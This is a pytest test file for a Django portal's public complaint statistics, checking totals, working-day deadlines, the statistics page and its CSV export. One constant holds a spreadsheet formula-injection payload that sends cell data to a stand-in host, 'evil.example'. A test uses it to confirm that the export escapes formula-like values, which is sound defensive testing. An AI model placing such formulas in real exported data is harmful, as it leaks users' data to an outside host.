"""Public e-laga statistics on a hand-made sample, as page, table and CSV."""

import csv
import datetime
import io
import zoneinfo
from http import HTTPStatus

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from pengaduan.choices import StatusLaporan
from pengaduan.models import KategoriLaporan, Laporan
from pengaduan.statistics import compute_statistics
from portal.models import Kecamatan, PerangkatDaerah
from portal.working_days import (
    WorkingDayCalendar,
    add_working_days,
    working_days_between,
)
from tests.pengaduan.factories import (
    KategoriLaporanFactory,
    LaporanFactory,
    create_elaga_page,
)

pytestmark = pytest.mark.django_db

WIB = zoneinfo.ZoneInfo("Asia/Jakarta")
TODAY = datetime.date(2025, 12, 31)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def at(day, hour=9):
    return datetime.datetime.combine(day, datetime.time(hour), tzinfo=WIB)


@pytest.fixture
def sample():
    """Five reports of 2025 and one of 2024, with hand-checked figures.

    Jalan rusak (target 5 hari kerja), Air bersih (target 14):
    - A jalan, Babalan, received Mon 3 Feb 2025, first follow-up Wed 5 Feb (2 hk),
      resolved Fri 7 Feb (deadline Mon 10 Feb): on time.
    - B jalan, Babalan, received Mon 3 Feb, follow-up Thu 13 Feb (8 hk),
      resolved Fri 14 Feb: late.
    - C air, Stabat, received Tue 4 Mar, follow-up Thu 6 Mar (2 hk), closed
      (resolved Mon 10 Mar, deadline 14 hk later): on time.
    - D air, Stabat, received 1 Jul, dispatched, open, current deadline 8 Jul:
      overdue on 31 Dec.
    - E jalan, Babalan, confidential, received 1 Jul, new (not dispatched).
    - F jalan, received 2024: outside the period.
    """
    jalan = KategoriLaporanFactory(slug="jalan-rusak", nama="Jalan rusak")
    air = KategoriLaporanFactory(slug="air-bersih", nama="Air bersih")
    KategoriLaporan.objects.filter(pk=jalan.pk).update(target_hari_kerja=5)
    KategoriLaporan.objects.filter(pk=air.pk).update(target_hari_kerja=14)
    pupr = PerangkatDaerah.objects.get(slug="dinas-pupr")
    stabat = Kecamatan.objects.get(slug="stabat")

    def report(**fields):
        laporan = LaporanFactory()
        for name, value in fields.items():
            setattr(laporan, name, value)
        laporan.save()
        return laporan

    report(
        kategori=jalan,
        diterima_pada=at(datetime.date(2025, 2, 3)),
        perangkat_daerah=pupr,
        tindak_lanjut_pertama_pada=at(datetime.date(2025, 2, 5)),
        selesai_pada=at(datetime.date(2025, 2, 7)),
        status=StatusLaporan.SELESAI,
    )
    report(
        kategori=jalan,
        diterima_pada=at(datetime.date(2025, 2, 3), 10),
        perangkat_daerah=pupr,
        tindak_lanjut_pertama_pada=at(datetime.date(2025, 2, 13)),
        selesai_pada=at(datetime.date(2025, 2, 14)),
        status=StatusLaporan.SELESAI,
    )
    report(
        kategori=air,
        kecamatan=stabat,
        desa=None,
        diterima_pada=at(datetime.date(2025, 3, 4)),
        perangkat_daerah=pupr,
        tindak_lanjut_pertama_pada=at(datetime.date(2025, 3, 6)),
        selesai_pada=at(datetime.date(2025, 3, 10)),
        ditutup_pada=at(datetime.date(2025, 3, 12)),
        status=StatusLaporan.DITUTUP,
    )
    report(
        kategori=air,
        kecamatan=stabat,
        desa=None,
        diterima_pada=at(datetime.date(2025, 7, 1)),
        perangkat_daerah=pupr,
        didisposisikan_pada=at(datetime.date(2025, 7, 1)),
        batas_waktu=datetime.date(2025, 7, 8),
        status=StatusLaporan.DIDISPOSISIKAN,
    )
    report(
        kategori=jalan,
        rahasia=True,
        diterima_pada=at(datetime.date(2025, 7, 1), 11),
        batas_waktu=datetime.date(2025, 7, 4),
        status=StatusLaporan.BARU,
    )
    report(kategori=jalan, diterima_pada=at(datetime.date(2024, 12, 30)))


def by_label(rows):
    return {row.label: row for row in rows}


def test_the_sample_has_the_hand_checked_working_days():
    assert (
        working_days_between(datetime.date(2025, 2, 3), datetime.date(2025, 2, 13)) == 8
    )
    assert add_working_days(datetime.date(2025, 2, 3), 5) == datetime.date(2025, 2, 10)


def test_the_calendar_agrees_with_portal_working_days():
    start = datetime.date(2026, 3, 10)
    calendar = WorkingDayCalendar(start, start + datetime.timedelta(days=200))
    for count in (0, 3, 5, 14, 60):
        assert calendar.add(start, count) == add_working_days(start, count)
    end = datetime.date(2026, 4, 30)
    assert calendar.between(start, end) == working_days_between(start, end)


def test_totals_of_a_year(sample):
    stats = compute_statistics(2025, today=TODAY)
    total = stats.total
    assert (total.received, total.resolved, total.on_time) == (5, 3, 2)
    assert total.on_time_percent == 66.7
    assert total.median_first_answer == 2  # 2, 8, 2
    assert total.overdue == 2  # D (deadline 8 Jul) and E (verification, 4 Jul)


def test_figures_per_month_category_kecamatan_and_opd(sample):
    stats = compute_statistics(2025, today=TODAY)
    months = stats.by_month
    assert len(months) == 12
    assert [m.received for m in months] == [0, 2, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0]
    assert months[1].resolved == 2 and months[1].on_time_percent == 50.0
    kategori = by_label(stats.by_kategori)
    assert (kategori["Jalan rusak"].received, kategori["Jalan rusak"].resolved) == (
        3,
        2,
    )
    assert kategori["Jalan rusak"].median_first_answer == 5  # median of 2 and 8
    assert kategori["Air bersih"].on_time_percent == 100.0
    kecamatan = by_label(stats.by_kecamatan)
    assert kecamatan["Babalan"].received == 3
    assert kecamatan["Stabat"].overdue == 1
    opd = by_label(stats.by_opd)
    pupr_name = PerangkatDaerah.objects.get(slug="dinas-pupr").nama
    assert (opd[pupr_name].received, opd[pupr_name].overdue) == (4, 1)
    assert opd["Belum didisposisikan"].received == 1


def test_a_single_month(sample):
    stats = compute_statistics(2025, 2, today=TODAY)
    assert stats.total.received == 2
    assert [m.label for m in stats.by_month] == ["Februari"]
    assert stats.period_label == "Februari 2025"


def test_statistics_page_shows_charts_and_tables(client, home_page, sample):
    page = create_elaga_page(home_page)
    stats_url = page.url + page.reverse_subpage("statistics")
    response = client.get(stats_url, {"tahun": "2025"})
    assert response.status_code == HTTPStatus.OK
    html = response.content.decode()
    assert html.count('role="img"') == 4
    assert "<title id=" in html
    assert "<caption>Per kategori</caption>" in html
    assert "66,7%" in html or "66.7%" in html
    # An invalid period falls back to the current year with a message, no 500.
    response = client.get(stats_url, {"tahun": "abc", "bulan": "13"})
    assert response.status_code == HTTPStatus.OK
    assert "Periode tidak valid" in response.content.decode()


def test_statistics_csv_has_the_same_numbers(client, home_page, sample):
    page = create_elaga_page(home_page)
    stats_url = page.url + page.reverse_subpage("statistics")
    response = client.get(stats_url, {"tahun": "2025", "format": "csv"})
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"].startswith("text/csv")
    assert "statistik-e-laga-2025.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    total = rows[1]
    assert total[:5] == ["2025", "jumlah", "Jumlah", "5", "3"]
    assert total[5] == "66.7"
    assert ["2025", "kategori", "Jalan rusak", "3", "2", "50.0", "5.0", "1"] in rows


def test_statistics_csv_shows_formula_like_names_as_text(client, home_page, sample):
    KategoriLaporan.objects.filter(slug="jalan-rusak").update(nama=HYPERLINK)
    PerangkatDaerah.objects.filter(slug="dinas-pupr").update(nama="+Dinas PUPR")
    page = create_elaga_page(home_page)
    stats_url = page.url + page.reverse_subpage("statistics")
    response = client.get(stats_url, {"tahun": "2025", "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert ["2025", "kategori", "'" + HYPERLINK, "3", "2", "50.0", "5.0", "1"] in rows
    assert "'+Dinas PUPR" in {row[2] for row in rows}


def test_statistics_queries_stay_constant(
    client, home_page, django_assert_max_num_queries, settings
):
    # Rendering is measured, not the page cache (tests/portal/test_page_cache.py).
    settings.PAGE_CACHE_ENABLED = False
    page = create_elaga_page(home_page)
    stats_url = page.url + page.reverse_subpage("statistics")
    kategori = KategoriLaporanFactory()

    def add(count):
        for _ in range(count):
            laporan = LaporanFactory(kategori=kategori)
            Laporan.objects.filter(pk=laporan.pk).update(
                status=StatusLaporan.SELESAI,
                selesai_pada=laporan.diterima_pada,
                tindak_lanjut_pertama_pada=laporan.diterima_pada,
            )

    add(3)
    client.get(stats_url)
    with CaptureQueriesContext(connection) as few:
        client.get(stats_url)
    few_queries = len(few.captured_queries)
    add(37)
    # A change retires the menu and banner shared by every page: read them again.
    client.get(stats_url)
    with django_assert_max_num_queries(few_queries):
        response = client.get(stats_url)
    assert ">40</dd>" in response.content.decode()
